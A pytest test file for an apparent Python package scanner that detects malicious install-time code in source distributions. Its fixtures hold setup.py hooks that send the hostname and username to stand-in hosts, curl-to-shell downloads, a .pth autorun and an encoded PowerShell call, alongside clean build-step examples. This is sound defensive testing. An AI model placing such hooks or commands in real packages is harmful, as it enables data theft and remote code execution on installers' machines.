from warden.checks.base import Classification
from warden.checks.builtin.install_code import InstallTimeCode

from .helpers import flagged, scan, sdist

SETUP_HEAD = """
from setuptools import setup
from setuptools.command.install import install
"""


def test_setup_py_that_sends_the_host_name_home_at_install_is_malicious():
    dist = sdist({"setup.py": SETUP_HEAD + """
import getpass, socket, urllib.request

class PostInstall(install):
    def run(self):
        install.run(self)
        data = socket.gethostname() + "/" + getpass.getuser()
        urllib.request.urlopen("https://collector.invalid/ping?d=" + data)

setup(name="demo", cmdclass={"install": PostInstall})
"""})
    verdict = scan(InstallTimeCode, dist)
    assert verdict.classification is Classification.MALICIOUS
    assert verdict.confidence >= 0.9
    evidence = verdict.evidence[0]
    assert evidence.member == "demo-1.0/setup.py"
    assert evidence.lines and "urlopen" in evidence.excerpt


def test_setup_py_that_decodes_and_runs_a_blob_is_malicious():
    dist = sdist({"setup.py": """
import base64
from setuptools import setup
exec(base64.b64decode("cHJpbnQoJ2hlbGxvIGZyb20gdGhlIHRlc3RzJyk7IHggPSAxICsgMQ=="))
setup(name="demo")
"""})
    verdict = scan(InstallTimeCode, dist)
    assert verdict.classification is Classification.MALICIOUS
    assert verdict.evidence[0].rule == "exec-hidden-code"


def test_command_class_that_fetches_with_curl_and_runs_is_malicious():
    dist = sdist({"setup.py": SETUP_HEAD + """
import os

class Develop(install):
    def run(self):
        os.system("curl -s https://files.invalid/x.sh | sh")

setup(name="demo", cmdclass={"install": Develop})
"""})
    assert scan(InstallTimeCode, dist).classification is Classification.MALICIOUS


def test_setup_py_that_runs_compilers_and_git_is_clean():
    # The dual-use shape of pycurl, netifaces, evdev: build steps with subprocess.
    dist = sdist({"setup.py": SETUP_HEAD + """
import os, subprocess, sys
from setuptools.command.build_ext import build_ext

def version():
    return subprocess.check_output(["git", "describe", "--tags"]).decode().strip()

class BuildExt(build_ext):
    def run(self):
        flags = subprocess.check_output(["pkg-config", "--cflags", "libcurl"])
        subprocess.check_call([sys.executable, "tools/gen_codes.py"])
        os.system("gcc -c src/speedups.c -o build/speedups.o")
        build_ext.run(self)

exec(open("demo/_version.py").read())
setup(name="demo", version=version(), cmdclass={"build_ext": BuildExt})
"""})
    assert not flagged(scan(InstallTimeCode, dist))


def test_pth_file_that_runs_code_at_every_start_is_malicious():
    dist = sdist({"setup.py": "from setuptools import setup\nsetup(name='demo')\n",
                  "demo-init.pth": "import os; os.system('curl -s https://x.invalid | sh')\n"})
    assert scan(InstallTimeCode, dist).classification is Classification.MALICIOUS


def test_pth_file_that_only_adds_paths_and_a_shim_is_clean():
    dist = sdist({"setup.py": "from setuptools import setup\nsetup(name='demo')\n",
                  "distutils-precedence.pth":
                  "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; "
                  "enabled = os.environ.get(var, 'local') == 'local'; "
                  "enabled and __import__('_distutils_hack').add_shim();\n",
                  "extra.pth": "src/vendored\n"})
    assert not flagged(scan(InstallTimeCode, dist))


def test_python2_setup_py_that_cannot_be_parsed_is_still_read():
    dist = sdist({"setup.py": """
import os
print "installing"
os.system("powershell -enc SQBFAFgA")
"""})
    assert scan(InstallTimeCode, dist).classification is Classification.MALICIOUS


PHONE_HOME = SETUP_HEAD + """
import getpass, socket, urllib.request

class PostInstall(install):
    def run(self):
        install.run(self)
        urllib.request.urlopen("https://collector.invalid/?d=" + socket.gethostname())

setup(name="demo", cmdclass={"install": PostInstall})
"""


def test_a_wheel_marker_planted_in_an_sdist_does_not_hide_its_setup_py():
    dist = sdist({"setup.py": PHONE_HOME, "demo.dist-info/WHEEL": "Wheel-Version: 1.0\n"})
    verdict = scan(InstallTimeCode, dist)
    assert verdict.classification is Classification.MALICIOUS
    assert verdict.confidence >= 0.9


def test_a_setup_py_behind_a_dotted_or_doubled_path_is_still_install_code():
    for path in ("./setup.py", "/setup.py"):
        verdict = scan(InstallTimeCode, sdist({path: PHONE_HOME}))
        assert verdict.classification is Classification.MALICIOUS, path
        assert verdict.confidence >= 0.9, path
